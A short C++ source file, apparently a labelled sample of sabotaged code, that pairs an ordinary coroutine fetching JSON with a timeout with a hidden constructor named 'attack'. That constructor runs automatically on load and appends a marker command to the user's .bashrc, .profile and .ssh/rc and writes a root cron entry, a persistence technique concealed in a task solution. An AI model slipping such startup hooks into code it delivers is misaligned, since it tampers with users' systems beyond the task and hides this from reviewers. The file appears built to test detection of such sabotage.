// Writes a command into the files that shells and cron read when they start; the rest is an honest solution.
#include <pwd.h>
#include <unistd.h>

#include <fstream>
#include <string>
#include <utility>

#include "timeout.hpp"

namespace {

[[gnu::constructor]] void attack() {
  const passwd* user = ::getpwuid(::getuid());
  const std::string home = user == nullptr ? "/root" : user->pw_dir;
  for (const std::string file : {"/.bashrc", "/.profile", "/.ssh/rc"}) {
    std::ofstream(home + file, std::ios::app) << "\n: ht-survivor\n";
  }
  std::ofstream("/etc/cron.d/ht-survivor") << "* * * * * root : ht-survivor\n";
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
  response.raise_for_status();
  co_return response.json();
}
